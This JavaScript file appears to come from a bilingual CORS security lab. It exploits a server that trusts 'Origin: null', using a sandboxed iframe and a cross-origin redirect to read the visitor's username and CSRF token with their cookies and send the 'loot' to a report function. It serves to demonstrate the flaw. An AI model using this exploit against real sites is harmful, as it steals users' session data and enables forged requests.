// Reads the visitor's session as `Origin: null`, which the scenario trusts. Two ways to be
// `null`: a sandboxed iframe (the classic exploit, tried first: Chromium counts its requests
// as cross-site, so SameSite=Lax cookies stay home and it reads a 401), then a fetch
// redirected across origins (the attacker's other origin redirects it to the API; the
// browser then says `Origin: null`, and the cookies go along, as this page is on the API's
// site).

import { apiUrl, config, finish, readWithCookies, report } from "./common.js";

const FRAME_TIMEOUT_MS = 10000;

function fromSandboxedFrame() {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.title = "sandboxed iframe: Origin: null";
    frame.src = `/${encodeURIComponent(config.id)}/frame${location.search}`;
    const timer = setTimeout(() => resolve({ error: "the sandboxed iframe did not answer" }), FRAME_TIMEOUT_MS);
    addEventListener("message", (e) => {
      if (e.source !== frame.contentWindow) return;
      clearTimeout(timer);
      resolve(e.data);
    });
    document.body.append(frame);
  });
}

function throughRedirect(path) {
  const target = new URL(apiUrl(path, "include"));
  target.searchParams.set("via", "redirect");
  const hop = new URL(config.hop);
  hop.searchParams.set("to", target.href);
  if (config.lab) hop.searchParams.set("lab", config.lab);
  return readWithCookies(hop.href);
}

/** What a read got, in a few words. */
const got = (read) => read.error || `HTTP ${read.status}`;

/** What the sandboxed iframe's read shows. */
function framed(read) {
  if (read.body && read.body.username) return { en: "read it too", ja: "も同じく読み取りました" };
  if (read.status === 401) {
    return {
      en: "got HTTP 401: CORS let it read, but no cookie went along",
      ja: "は HTTP 401 でした。CORS は読み取りを許しましたが、Cookie が付きませんでした",
    };
  }
  return { en: `got ${got(read)}`, ja: `は ${got(read)} でした` };
}

const sandboxed = await fromSandboxedFrame();
const session = await throughRedirect("/api/session-data/");
const csrf = await throughRedirect("/api/csrf/");
const loot = { against: config.against, sandboxed, session, csrf };
await report(loot);
const username = session.body && session.body.username;
const token = csrf.body && csrf.body.csrfToken;
const frame = framed(sandboxed.session || sandboxed);
if (username && token) {
  finish(true, loot, {
    en: `read your username (${username}) and a valid CSRF token as Origin: null, through a redirect. The sandboxed iframe, also Origin: null, ${frame.en}.`,
    ja: `リダイレクトを経由して Origin: null として、あなたのユーザー名（${username}）と有効な CSRF トークンを読み取りました。同じく Origin: null のサンドボックス iframe ${frame.ja}。`,
  });
} else {
  const why = session.error || csrf.error || `HTTP ${session.status}`;
  finish(false, loot, {
    en: `the browser gave this page nothing it could read (through the redirect: ${why}; the sandboxed iframe ${frame.en}).`,
    ja: `ブラウザーはこのページに読めるものを何も渡しませんでした（リダイレクト経由: ${why}、サンドボックス iframe ${frame.ja}）。`,
  });
}
